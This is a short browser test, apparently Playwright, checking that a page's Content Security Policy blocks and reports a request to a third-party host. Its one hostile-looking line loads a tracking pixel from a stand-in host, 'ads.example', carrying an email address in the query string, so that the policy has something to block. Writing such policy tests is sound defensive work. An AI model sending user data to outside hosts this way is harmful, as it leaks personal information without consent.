import { expect, test } from '#tests/setup/browser/browser.ts'

test('the browser reports what the policy of a page blocks, and knows every feature that it denies', async ({ page, expectFault }) => {
  expectFault(/violates the following Content Security Policy directive|ads\.example/)
  const warnings: string[] = []
  page.on('console', (message) => void warnings.push(message.text()))
  await page.goto('/pricing')
  const reported = page.waitForResponse('**/csp-reports')
  await page.evaluate(() => {
    new Image().src = 'https://ads.example/pixel.gif?email=ada@example.com'
  })
  expect((await reported).status()).toBe(204)
  expect(warnings.filter((text) => text.includes('Permissions-Policy'))).toEqual([])
})
